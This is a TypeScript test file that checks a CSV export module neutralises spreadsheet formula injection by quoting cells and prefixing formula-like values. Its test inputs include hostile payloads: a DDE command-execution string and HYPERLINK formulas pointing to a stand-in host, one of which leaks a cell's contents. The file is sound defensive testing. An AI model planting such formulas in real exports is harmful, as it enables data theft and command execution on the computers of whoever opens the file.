import { describe, expect, it } from "vitest";
import { csvField, csvLine, csvNumber, neutraliseFormula } from "./export.server";

/**
 * The cells a reader would see if it split a CSV cell on any usual separator,
 * ignoring quotes, and then dropped a quote each part starts with.
 */
function cellsSplitOnAnything(cell: string): string[] {
  return cell.split(/[,;\t|\r\n]/).flatMap((part) => [part, part.replace(/^"/, "")]);
}

describe("CSV cells", () => {
  it("quotes every cell and doubles embedded quotes", () => {
    expect(csvField("plain")).toBe('"plain"');
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("")).toBe('""');
  });

  it.each([
    ["=HYPERLINK(1)", "'=HYPERLINK(1)"],
    ["@cmd", "'@cmd"],
    ['+1+HYPERLINK("http://evil.in","x")', '\'+1+HYPERLINK("http://evil.in","x")'],
    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["+919812345678", "'+919812345678"],
    ["\t=1+2", "'\t'=1+2"],
    ["\r=1+2", "'\r'=1+2"],
    ["\n=1+2", "'\n'=1+2"],
    ["\tplain", "'\tplain"],
    ["  =1+2", "'  =1+2"],
  ])("prefixes a cell that starts like a formula: %j", (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it.each([
    ["a;=1+2", "a;'=1+2"],
    ["a,=1+2", "a,'=1+2"],
    ["a|=1+2", "a|'=1+2"],
    ["a\t@SUM(1)", "a\t'@SUM(1)"],
    ["a\r\n-1+1", "a\r'\n'-1+1"],
    ['=1+2";=1+2', "'=1+2\";'=1+2"],
    ["x; +1+1", "x;' +1+1"],
    ["x;\t=1", "x;'\t'=1"],
  ])("neutralises a formula after a separator a spreadsheet may split on: %j", (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it("leaves ordinary text as it is", () => {
    for (const value of [
      "Priya Sharma",
      "priya.bakes",
      "https://www.instagram.com/p/Cabc123/?igsh=x=1",
      "Rao, Ravi",
      "Anne-Marie",
      "Ravi - Delhi",
      "a+b",
      "user@example.com",
      "N/A",
      "priya'=1",
      'say "=1"',
    ]) {
      expect(neutraliseFormula(value), value).toBe(value);
    }
  });

  it("no cell a reader could make of a hostile value starts a formula, however it splits", () => {
    const hostile = [
      "=1+2",
      "-1+cmd|' /C calc'!A0",
      '+1+HYPERLINK("http://evil.in?"&A1,"Click")',
      "a;=1+2",
      "a,-1+1|@SUM(A1)\t+2",
      '=1+2";=1+2',
      "=1+2'\" ;,=1+2",
      "x\r\n=2+2",
      " ;\t|=3",
    ];
    for (const value of hostile) {
      const cell = csvField(value);
      for (const part of [cell.slice(1, -1).replace(/""/g, '"'), ...cellsSplitOnAnything(cell)]) {
        expect(part.trimStart(), `${JSON.stringify(value)} → ${JSON.stringify(part)}`).not.toMatch(/^[=+\-@]/);
      }
    }
  });

  it("keeps the server's own numbers numbers, and defuses anything else in their columns", () => {
    expect(csvNumber("-12.50")).toBe('"-12.50"');
    expect(csvNumber("349.00")).toBe('"349.00"');
    expect(csvNumber("1000")).toBe('"1000"');
    expect(csvNumber("N/A")).toBe('"N/A"');
    expect(csvNumber("-1+1")).toBe('"\'-1+1"');
  });

  it("writes a line with numbers in the number columns and defused text elsewhere", () => {
    const row = [
      "BK0000000001",
      "=cmd",
      "+919812345678",
      "followers",
      "a;-1+1",
      "1000",
      "349.00",
      "-12.50",
      "completed",
      "2025-03-15 12:00:00",
      "N/A",
      "N/A",
      "N/A",
      "N/A",
    ];
    expect(csvLine(row)).toBe(
      `"BK0000000001","'=cmd","'+919812345678","followers","a;'-1+1","1000","349.00","-12.50","completed","2025-03-15 12:00:00","N/A","N/A","N/A","N/A"\r\n`,
    );
  });
});
